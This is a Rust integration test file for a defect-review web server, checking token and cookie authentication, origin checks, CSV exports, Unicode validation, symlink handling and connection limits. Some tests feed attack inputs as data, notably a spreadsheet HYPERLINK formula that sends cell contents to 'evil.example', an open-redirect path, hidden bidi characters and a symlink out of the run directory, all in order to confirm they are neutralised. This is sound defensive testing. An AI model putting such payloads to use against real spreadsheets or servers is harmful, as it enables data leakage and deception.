    let (status, _) = get(&agent, &format!("{api}?token=wrong-{token}"));
    assert_eq!(status, 401);
    let mut r = agent
        .get(&api)
        .header("authorization", format!("Bearer {token}"))
        .call()
        .unwrap();
    assert_eq!(
        r.status().as_u16(),
        200,
        "{}",
        r.body_mut().read_to_string().unwrap()
    );
    // The printed address sets a cookie and drops the token from the address.
    let r = agent
        .get(format!("{}/?token={token}&filter=pending", server.base))
        .call()
        .unwrap();
    assert_eq!(r.status().as_u16(), 303);
    assert_eq!(r.headers()["location"], "/?filter=pending");
    let cookie = r.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"));
    let cookie = cookie.split(';').next().unwrap().to_string();
    let mut r = agent.get(&api).header("cookie", &cookie).call().unwrap();
    assert_eq!(
        r.status().as_u16(),
        200,
        "{}",
        r.body_mut().read_to_string().unwrap()
    );
}

// ---- what an outsider could try ------------------------------------------

/// The generated token a server beyond loopback printed.
/// A fresh review served on every interface, and the token it printed.
fn beyond_loopback() -> (tempfile::TempDir, PathBuf, Server, String) {
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("review.sqlite");
    let server = Server::start(reviewed_run(), &db, &["--addr", "0.0.0.0:0"]);
    let token = printed_token(&server);
    (tmp, db, server, token)
}

fn printed_token(server: &Server) -> String {
    server
        .url
        .split_once("?token=")
        .map(|(_, t)| t.to_string())
        .expect("a generated token in the printed address")
}

/// A reviewer corrects a candidate's condition state: stored as given,
/// shown in the queue, kept by a later decision from the queue's row, and
/// exported beside the measured state, as Python's sqlite3 and csv read
/// them; a state that is none of the four is refused by name.
#[test]
fn a_corrected_condition_state_is_stored_shown_and_exported() {
    let (tmp, db, server, ids) = fresh_review(2);
    let agent = agent();
    let url = decisions_url(&server.base, &ids[0]);
    let (status, body) = post_json(
        &agent,
        &url,
        &json!({"version": 0, "verdict": "accepted", "condition": "severe", "reviewer": "kim"}),
    );
    assert_eq!(status, 201, "{body}");
    let (status, body) = post_json(
        &agent,
        &decisions_url(&server.base, &ids[1]),
        &json!({"version": 0, "verdict": "accepted", "condition": "cracked", "reviewer": "kim"}),
    );
    assert!((400..500).contains(&status), "{status} {body}");
    assert!(
        body.contains("unknown condition state") && body.contains("cracked"),
        "{body}"
    );
    let (_, queue) = get(&agent, &format!("{}/", server.base));
    let row = &queue[queue.find(&format!("data-id=\"{}\"", ids[0])).unwrap()..];
    let row = &row[..row.find("</tr>").unwrap()];
    assert!(
        row.contains("4 severe") && row.contains("(reviewer)"),
        "{row}"
    );
    // A quick decision from the row (as the queue's keys send it) keeps it.
    let (status, body) = post_json(
        &agent,
        &url,
        &json!({"version": 1, "verdict": "needs_repair", "severity": 3, "condition": "severe", "reviewer": "kim"}),
    );
    assert_eq!(status, 201, "{body}");
    let stored = python_run(
        "import json, sqlite3, sys\n\
         c = sqlite3.connect(sys.argv[1])\n\
         print(json.dumps(c.execute('SELECT condition_state FROM decisions ORDER BY seq').fetchall()))",
        &[&db],
    );
    assert_eq!(stored.trim(), r#"[["severe"], ["severe"]]"#);
    let (status, csv) = get(
        &agent,
        &format!("{}/export/accepted-defects.csv", server.base),
    );
    assert_eq!(status, 200, "{csv}");
    let path = tmp.path().join("accepted.csv");
    std::fs::write(&path, csv).unwrap();
    let row = python_run(
        "import csv, json, sys\n\
         rows = list(csv.DictReader(open(sys.argv[1], newline='')))\n\
         print(json.dumps([[r['id'], r['inspector_condition_state'], r['condition_state']] for r in rows]))",
        &[&path],
    );
    let defects = read_json(&reviewed_run().join("defects.json"));
    let measured = defects["defects"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["id"] == ids[0].as_str())
        .unwrap()["condition"]
        .as_str()
        .unwrap_or("")
        .to_string();
    assert_eq!(
        serde_json::from_str::<Value>(&row).unwrap(),
        json!([[ids[0], "severe", measured]])
    );
}

#[test]
fn exports_show_formulas_as_text() {
    let (tmp, db, server, ids) = fresh_review(1);
    let note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let (status, body) = post_json(
        &agent(),
        &decisions_url(&server.base, &ids[0]),
        &json!({"version": 0, "verdict": "accepted", "note": note, "reviewer": "@kim"}),
    );
    assert_eq!(status, 201, "{body}");
    for (export, note_column, reviewer_column) in [
        ("decisions.csv", "note", "reviewer"),
        ("accepted-defects.csv", "note", "reviewer"),
    ] {
        let (status, csv) = get(&agent(), &format!("{}/export/{export}", server.base));
        assert_eq!(status, 200, "{csv}");
        let path = tmp.path().join(export);
        std::fs::write(&path, csv).unwrap();
        let row = python_run(
            "import csv, json, sys\n\
             rows = list(csv.DictReader(open(sys.argv[1], newline='')))\n\
             print(json.dumps([rows[0][sys.argv[2]], rows[0][sys.argv[3]]]))",
            &[path.to_str().unwrap(), note_column, reviewer_column],
        );
        let [shown_note, shown_reviewer]: [String; 2] = serde_json::from_str(&row).unwrap();
        assert_eq!(shown_note, format!("'{note}"), "{export}");
        assert_eq!(shown_reviewer, "'@kim", "{export}");
    }
    // The database keeps what was typed.
    assert_eq!(stored_decisions(&db)[0][4], note);
}

#[test]
fn writes_say_where_they_come_from_and_tokens_stay_out_of_write_addresses() {
    let (_tmp, db, server, token) = beyond_loopback();
    let ids = candidate_ids_with(&server, &token);
    let url = decisions_url(&server.base, &ids[0]);
    let decision = json!({"version": 0, "verdict": "accepted", "reviewer": "kim"}).to_string();
    let agent = agent();
    // (status, body) of the decision posted to `to` with one more header.
    let post = |to: &str, (name, value): (&str, String)| {
        let mut r = agent
            .post(to)
            .header(name, value)
            .header("content-type", "application/json")
            .send(&decision)
            .unwrap();
        (r.status().as_u16(), r.body_mut().read_to_string().unwrap())
    };
    // The token in a write's address is not taken, even from the server's origin.
    let (status, body) = post(
        &format!("{url}?token={token}"),
        ("origin", origin_of(&url).to_string()),
    );
    assert_eq!(status, 401, "{body}");
    // A write that says neither Origin nor Sec-Fetch-Site, with the token in
    // a cookie (as a browser would send it to a form from anywhere).
    let (status, body) = post(&url, ("cookie", format!("postflight_token={token}")));
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("say where it comes from"), "{body}");
    assert!(stored_decisions(&db).is_empty());
    // A script with the bearer token needs no Origin: no other site can send it.
    let (status, body) = post(&url, ("authorization", format!("Bearer {token}")));
    assert_eq!(status, 201, "{body}");
    // The printed address with a second slash stays on this server.
    let r = agent
        .get(format!("{}//evil.example/?token={token}", server.base))
        .call()
        .unwrap();
    assert_eq!(r.status().as_u16(), 303);
    let location = r.headers()["location"].to_str().unwrap();
    assert!(
        location.starts_with('/') && !location.starts_with("//"),
        "{location}"
    );
}

/// The queue's candidate ids from a server that needs `token`.
fn candidate_ids_with(server: &Server, token: &str) -> Vec<String> {
    let mut r = agent()
        .get(format!("{}/api/candidates", server.base))
        .header("authorization", format!("Bearer {token}"))
        .call()
        .unwrap();
    queue_ids(&r.body_mut().read_to_string().unwrap())
}

#[test]
fn names_and_notes_hold_no_hidden_characters() {
    let (_tmp, db, server, ids) = fresh_review(1);
    let url = decisions_url(&server.base, &ids[0]);
    for (reviewer, note, says) in [
        ("\u{202E}\u{200B}", "", "reviewer name cannot hold"),
        ("\u{2066}kim\u{2069}", "", "reviewer name cannot hold"),
        ("kim\u{0}", "", "reviewer name cannot hold"),
        ("\u{3000}", "", "needs a reviewer name"),
        ("kim", "crack\u{0} wide", "control characters (U+0000)"),
    ] {
        let (status, body) = post_json(
            &agent(),
            &url,
            &json!({"version": 0, "verdict": "accepted", "note": note, "reviewer": reviewer}),
        );
        assert_eq!(status, 422, "{reviewer:?} {note:?}: {body}");
        assert!(body.contains(says), "{reviewer:?} {note:?}: {body}");
    }
    assert!(stored_decisions(&db).is_empty());
    // Tabs and line breaks are a note's own.
    let (status, body) = post_json(
        &agent(),
        &url,
        &json!({"version": 0, "verdict": "accepted", "note": "one\ttwo\r\nthree", "reviewer": "Zoë"}),
    );
    assert_eq!(status, 201, "{body}");
}

#[test]
fn a_crop_linked_out_of_the_run_is_not_served() {
    let tmp = tempfile::tempdir().unwrap();
    let run = tmp.path().join("run");
    copy_dir(reviewed_run(), &run);
    let defects: Value =
        serde_json::from_str(&std::fs::read_to_string(run.join("defects.json")).unwrap()).unwrap();
    let with_crops: Vec<(String, String)> = defects["defects"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|d| {
            Some((
                d["id"].as_str()?.to_string(),
                d["crop"].as_str()?.to_string(),
            ))
        })
        .collect();
    let [(outside, outside_crop), (inside, inside_crop), ..] = &with_crops[..] else {
        panic!("the fixture has two crops")
    };
    let secret = tmp.path().join("secret.jpg");
    std::fs::copy(run.join(outside_crop), &secret).unwrap();
    std::fs::remove_file(run.join(outside_crop)).unwrap();
    std::os::unix::fs::symlink(&secret, run.join(outside_crop)).unwrap();
    // A link that stays inside the run is still a crop of the run.
    let kept = run.join("defects").join("kept.jpg");
    std::fs::rename(run.join(inside_crop), &kept).unwrap();
    std::os::unix::fs::symlink(&kept, run.join(inside_crop)).unwrap();
    let server = Server::start(&run, &run.join("review.sqlite"), &[]);
    let crop = |id: &str| {
        let url = format!("{}/candidates/{}/crop", server.base, url_path(id));
        agent().get(url).call().unwrap().status().as_u16()
    };
    assert_eq!(crop(outside), 404);
    assert_eq!(crop(inside), 200);
}

#[test]
fn half_open_idle_and_surplus_connections_are_bounded() {
    use std::io::{Read, Write};
    let (_tmp, _db, server, _) = fresh_review(0);
    let address = server.base.strip_prefix("http://").unwrap().to_string();
    let closed_within = |mut stream: std::net::TcpStream, limit: Duration| {
        let start = Instant::now();
        stream.set_read_timeout(Some(limit)).unwrap();
        let mut sink = Vec::new();
        let ended = stream.read_to_end(&mut sink).is_ok();
        assert!(ended, "still open after {limit:?}");
        start.elapsed()
    };
    // Headers that never finish, and a connection idle after its answer.
    let mut half_open = std::net::TcpStream::connect(&address).unwrap();
    write!(half_open, "GET / HTTP/1.1\r\nhost: {address}\r\n").unwrap();
    let mut idle = std::net::TcpStream::connect(&address).unwrap();
    write!(
        idle,
        "GET /assets/review.css HTTP/1.1\r\nhost: {address}\r\n\r\n"
    )
    .unwrap();
    let limit = Duration::from_secs(30);
    let half_open = std::thread::spawn(move || closed_within(half_open, limit));
    let waited = closed_within(idle, limit);
    assert!(waited >= Duration::from_secs(9), "closed after {waited:?}");
    let waited = half_open.join().unwrap();
    assert!(waited >= Duration::from_secs(9), "closed after {waited:?}");
    // Past the cap, a connection waits until one closes.
    let held: Vec<_> = (0..128)
        .map(|_| std::net::TcpStream::connect(&address).unwrap())
        .collect();
    let quick = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .timeout_global(Some(Duration::from_secs(3)))
        .build();
    let quick: ureq::Agent = quick.into();
    let url = format!("{}/assets/review.css", server.base);
    assert!(quick.get(&url).call().is_err(), "answered past the cap");
    drop(held);
    assert_eq!(get(&agent(), &url).0, 200);
}

// ---- localisation re-run ---------------------------------------------------

#[test]
fn decisions_stay_with_their_candidates_when_localisation_reruns() {
    let fixture = reviewed_run();
    let tmp = tempfile::tempdir().unwrap();
    let run = tmp.path().join("run");
    copy_dir(fixture, &run);
    let db = run.join("review.sqlite");
    let server = Server::start(&run, &db, &[]);
    let ids = candidate_ids(&server);
    let agent = agent();
    for (id, verdict) in [(&ids[0], "accepted"), (&ids[1], "rejected")] {
        let (status, body) = post_json(
            &agent,
            &decisions_url(&server.base, id),
            &json!({"version": 0, "verdict": verdict, "reviewer": "kim"}),
        );
        assert_eq!(status, 201, "{body}");
    }
    drop(server);
    let before = std::fs::metadata(run.join("defects.json"))
        .unwrap()
        .modified()
        .unwrap();
    let plan = fixture.parent().unwrap().join("sim/plan.json");
    let out = postflight(
        &[
            "localise",
            "--run",
            run.to_str().unwrap(),
            "--plan",
            plan.to_str().unwrap(),
        ],
        tmp.path(),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_ne!(
        std::fs::metadata(run.join("defects.json"))
            .unwrap()
            .modified()
            .unwrap(),
        before,
        "localise did not run again"
    );
    let server = Server::start(&run, &db, &[]);
    let (_, body) = get(&agent, &format!("{}/api/candidates", server.base));
    let queue: Value = serde_json::from_str(&body).unwrap();
    let verdicts: BTreeMap<String, Value> = queue["candidates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["id"].as_str().unwrap().to_string(),
                c["decision"]["verdict"].clone(),
            )
        })
        .collect();
    assert_eq!(verdicts.keys().collect::<Vec<_>>(), {
        let mut sorted: Vec<&String> = ids.iter().collect();
        sorted.sort();
        sorted
    });
    assert_eq!(verdicts[&ids[0]], "accepted");
    assert_eq!(verdicts[&ids[1]], "rejected");
    assert_eq!(queue["progress"]["reviewed"], 2);
}
